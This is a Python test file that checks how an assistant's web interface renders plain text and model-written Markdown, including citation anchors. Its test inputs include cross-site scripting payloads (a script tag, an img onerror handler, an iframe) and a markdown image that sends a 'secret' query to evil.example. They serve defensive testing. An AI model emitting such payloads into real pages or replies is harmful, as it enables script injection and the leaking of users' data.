"""Data stays data: seen through the Markdown renderer and an HTML parser, as a browser would."""

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.conversation import UNSUPPORTED, CitationAnchor
from web.markup import formatted, formatted_with_anchors, plain

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def shown(markup: str) -> BeautifulSoup:
    return BeautifulSoup(MARKDOWN.render(markup), "lxml")


@given(st.text(max_size=80))
def test_plain_text_never_becomes_an_element(text: str) -> None:
    assert {tag.name for tag in shown(plain("x" + text)).find_all()} <= {"html", "body", "p", "br"}


@pytest.mark.parametrize(
    "text",
    [
        "# not a heading",
        "*stars* _lines_ `code`",
        "<script>alert(1)</script>",
        "[link](https://evil.example)",
        "![x](https://evil.example/?q=1)",
        "https://evil.example",
        "\\(x\\) $$y$$",
        "1. list\n- item\n> quote\n| a | b |",
        "&lt;b&gt;",
    ],
)
def test_plain_text_is_shown_as_it_was_written(text: str) -> None:
    page = shown("x" + plain(text))
    for line_break in page.find_all("br"):
        line_break.replace_with("\n")
    assert page.get_text().strip() == "x" + text


@pytest.mark.parametrize(
    "text",
    [
        '<a class="citation" href="#citation-1">1</a>',
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "<iframe src='https://evil.example'></iframe>",
    ],
)
def test_a_models_html_and_pictures_are_text(text: str) -> None:
    page = shown(formatted(text))
    assert page.find(["img", "iframe", "script"]) is None
    assert page.find("a", class_="citation") is None


def test_a_models_markdown_formats() -> None:
    page = shown(formatted("**bold**\n\n1. one\n2. two\n\n`a < b`\n\n| a | b |\n| --- | --- |\n| 1 | 2 |"))
    assert page.find("strong")
    assert page.find("table")
    assert len(page.find_all("li")) == 2
    code = page.find("code")
    assert code is not None
    assert code.get_text() == "a < b"


def test_links_stand_where_the_anchors_are() -> None:
    text = "One & two.\nThree."
    anchors = [CitationAnchor(offset=10, number=1), CitationAnchor(offset=17, number=2)]
    html = formatted_with_anchors(text, anchors, {1: "<i>1</i>", 2: "<i>2</i>"})
    assert html == "One &amp; two.<i>1</i>\nThree.<i>2</i>"


def test_an_unsupported_sentence_gets_its_mark() -> None:
    anchors = [CitationAnchor(offset=4, number=1), CitationAnchor(offset=9, number=UNSUPPORTED)]
    html = formatted_with_anchors("One. Two.", anchors, {1: "<i>1</i>", UNSUPPORTED: "<i>?</i>"})
    assert html == "One.<i>1</i> Two.<i>?</i>"


def test_a_text_that_holds_our_marks_gets_no_links() -> None:
    html = formatted_with_anchors("a\ue0001\ue001 b.", [CitationAnchor(offset=3, number=1)], {1: "<i>1</i>"})
    assert "<i>" not in html
